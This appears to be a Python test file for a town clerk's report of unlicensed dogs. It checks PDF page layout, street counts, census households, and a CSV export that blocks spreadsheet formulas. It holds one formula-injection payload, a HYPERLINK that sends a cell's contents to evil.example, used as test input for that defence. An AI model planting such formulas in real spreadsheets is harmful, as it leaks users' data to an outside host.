"""The unlicensed-dog list's writers from literal rows: landscape Letter pages numbered
"Page N of M", each street with its count, the total, and text from residents never run
as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import replace

from clerkdesk.reports.documents import OfficeHeading
from clerkdesk.reports.unlicensed_csv import HEADER, render_unlicensed_csv
from clerkdesk.reports.unlicensed_data import CensusHousehold, UnlicensedList, UnlicensedRow
from clerkdesk.reports.unlicensed_pdf import render_unlicensed_pdf
from pdf_support import page_sizes, page_texts

HEADING = OfficeHeading("Town of Westborough", "Office of the Town Clerk", "Bylaw 19")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
STREETS = ("Acorn Rd", "Beech St", "Cedar Ave", "Elm St", "Maple St", "Oak St")


def row(n: int, street: str, owner: str | None = None) -> UnlicensedRow:
    return UnlicensedRow(
        street=street,
        house_number=str(n),
        owner_name=owner or f"Owner{n:03d}, Pat",
        owner_id=n,
        address_lines=(f"{n} {street}", "Westborough, MA 01581"),
        phone="508-555-0100",
        dog_id=n,
        dog_name=f"Dog{n:03d}",
        breed="Beagle",
        last_license_label=f"{n} (2025–26)",
        last_tag=f"W-{n}",
        residence=f"{n} {street}",
        sex_label="F/S",
        color="Tricolor",
    )


def listing(
    rows: tuple[UnlicensedRow, ...], made_on: dt.date = dt.date(2026, 6, 1)
) -> UnlicensedList:
    return UnlicensedList(
        year_label="2026–27",
        due_date=dt.date(2026, 4, 1),
        rows=rows,
        heading=HEADING,
        last_year_label="2025–26",
        made_on=made_on,
        year=2026,
    )


def many() -> UnlicensedList:
    """120 dogs, 20 on each of six streets."""
    return listing(tuple(row(n, STREETS[n // 20]) for n in range(120)))


def test_pages_are_landscape_letter_and_numbered_of_the_whole() -> None:
    data = render_unlicensed_pdf(many(), invariant=True)
    texts = page_texts(data)
    assert len(texts) > 2
    assert set(page_sizes(data)) == {(792.0, 612.0)}
    for number, text in enumerate(texts, start=1):
        assert f"Page {number} of {len(texts)}" in text
        assert "Town of Westborough — Dogs not licensed for 2026–27 (MGL c.140 §151A)" in text
        # the column names are repeated at the top of every page
        assert "Mailing address" in text and "Last license" in text
        # and a page the list runs onto names the street it goes on with
        if number > 1:
            first_dog = re.search(r"Dog\d{3}", text)
            assert first_dog is not None
            assert any(f"{street}\n" in text[: first_dog.start()] for street in STREETS)


def test_every_dog_once_in_order_with_street_counts_and_the_total() -> None:
    text = "\n".join(page_texts(render_unlicensed_pdf(many(), invariant=True)))
    assert "Dogs Not Licensed — MGL c.140 §151A" in text
    assert "Licensed for 2025–26; no license for 2026–27, due by 04/01/2026" in text
    assert "As of 06/01/2026" in text
    names = [f"Dog{n:03d}" for n in range(120)]
    assert all(text.count(name) == 1 for name in names)
    positions = [text.index(name) for name in names]
    assert positions == sorted(positions)
    # each street's name and count, in order (repeated on a page it runs onto)
    firsts = [text.index(f"{street}\n") for street in STREETS]
    assert firsts == sorted(firsts)
    assert len(re.findall(r"(?<!\d)20 dogs", text)) >= len(STREETS)
    assert "Total: 120 dogs of 120 owners on 6 streets." in text
    assert "before the due date" not in text


def test_before_the_due_date_it_says_so() -> None:
    early = listing((row(1, "Elm St"),), made_on=dt.date(2026, 3, 1))
    text = page_texts(render_unlicensed_pdf(early))[0]
    assert "Drawn up before the due date (04/01/2026): these dogs are not late yet." in text
    assert "1 dog" in text and "Total: 1 dog of 1 owner on 1 street." in text


def test_an_empty_list_says_why() -> None:
    text = page_texts(render_unlicensed_pdf(listing(())))[0]
    assert "Every dog licensed for 2025–26 has been licensed for 2026–27" in text


def test_the_csv_holds_the_rows_and_never_a_formula() -> None:
    rows = (row(3, "Elm St", HOSTILE), row(12, "Elm St", "-Doe, Jane"))
    data = render_unlicensed_csv(listing(rows))
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(read[0]) == HEADER
    assert read[1][:4] == ["Elm St", "3", "'" + HOSTILE, "3 Elm St, Westborough, MA 01581"]
    assert read[2][2] == "'-Doe, Jane"
    assert read[1][-2:] == ["3", "3"]
    assert read[1][HEADER.index("last_tag")] == "W-3"


HOUSES = (
    CensusHousehold(
        "12 Elm Street", "Doe, Jane; Doe, John", 2, "Jane Doe", "address and family name",
        "2026 census, census-2026.xlsx, rows 14, 15",
    ),
    CensusHousehold(
        "3 Pine Road, 2", HOSTILE, 1, "", "no owner on file at this address",
        "2026 census, census-2026.xlsx, row 20",
    ),
)  # fmt: skip


def test_the_census_households_follow_the_dogs_with_their_source() -> None:
    data = replace(listing((row(3, "Elm St"),)), households=HOUSES)

    text = " ".join(" ".join(page_texts(render_unlicensed_pdf(data, invariant=True))).split())

    assert "Census of 2026: households that keep dogs with none licensed" in text
    assert "2 households told the 2026 census they keep dogs" in text
    assert "Jane Doe (address and family name)" in text
    assert "2026 census, census-2026.xlsx, rows 14, 15" in text
    assert "— (no owner on file at this address)" in text


def test_an_empty_list_still_shows_the_census_households() -> None:
    text = " ".join(page_texts(render_unlicensed_pdf(replace(listing(()), households=HOUSES))))
    assert "Every dog licensed for 2025–26" in text and "3 Pine Road, 2" in " ".join(text.split())


def test_the_csv_lists_the_census_households_after_the_dogs() -> None:
    data = render_unlicensed_csv(replace(listing((row(3, "Elm St"),)), households=HOUSES))
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(read) == 4
    elm, pine = (dict(zip(HEADER, line, strict=True)) for line in read[2:])
    assert (elm["street"], elm["house_number"], elm["owner"], elm["dog"]) == (
        "Elm Street",
        "12",
        "Doe, Jane; Doe, John",
        "",
    )
    assert (elm["census_dogs"], elm["census_source"], elm["dog_id"]) == (
        "2",
        "2026 census, census-2026.xlsx, rows 14, 15",
        "",
    )
    assert pine["owner"] == "'" + HOSTILE
    assert read[1][HEADER.index("census_dogs")] == ""
